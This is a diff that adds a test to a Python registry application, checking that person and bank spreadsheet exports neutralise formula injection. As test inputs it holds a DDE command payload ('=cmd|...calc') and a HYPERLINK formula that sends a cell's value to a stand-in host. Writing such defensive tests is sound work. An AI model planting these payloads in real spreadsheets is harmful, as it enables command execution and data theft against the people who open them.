@@ -48,3 +48,18 @@ def test_the_bank_file_neutralises_an_account_holder(regions, make_user):
     holder = [row[5] for row in sheet.iter_rows(min_row=2, values_only=True)]
     assert holder == ["'=cmd|' /C calc'!A0"]
     assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+
+
+def test_the_person_export_neutralises_an_imported_address(regions, make_user):
+    from registry_factories import registered
+
+    from canlian.core.registry.exporting import persons_export
+    from canlian.core.registry.selectors import PersonFilters
+
+    registered(name="注入", residence_address='=HYPERLINK("http://x/?"&C2,"点击")')
+    out = io.BytesIO()
+    assert persons_export(user=make_user("county_admin", "370502"), filters=PersonFilters(), stream=out) == 1
+    sheet = load_workbook(io.BytesIO(out.getvalue())).active
+    cells = [c for row in sheet.iter_rows() for c in row]
+    assert all(c.data_type != "f" for c in cells)
+    assert any(c.value == "'" + '=HYPERLINK("http://x/?"&C2,"点击")' for c in cells)
